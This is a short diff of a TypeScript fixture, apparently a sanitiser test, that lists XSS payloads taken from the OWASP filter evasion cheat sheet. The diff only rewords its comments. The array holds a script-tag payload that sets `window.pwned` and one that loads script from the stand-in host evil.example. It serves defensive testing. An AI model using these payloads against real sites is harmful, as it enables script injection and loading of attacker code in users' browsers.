@@ -1,10 +1,13 @@
-/** Where a payload that ran tells of it, or what it would load. Nobody answers there. */
+/** Where a payload that runs reports it, or what it would load. No one answers there. */
 export const FOREIGN_HOST = "evil.example";
 
 const RUN = "window.pwned=1";
 const SRC = `https://${FOREIGN_HOST}`;
 
-/** From the OWASP filter evasion cheat sheet and the collections of mutations: what a field must survive. Each would set `window.pwned`, open a dialog or ask a foreign host. */
+/**
+ * From the OWASP filter evasion cheat sheet and mutation XSS collections: what a field must survive. Each would set `window.pwned`, open a
+ * dialog, or send a request to another host.
+ */
 export const payloads: readonly string[] = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=${SRC}/xss.js></SCRIPT>`,
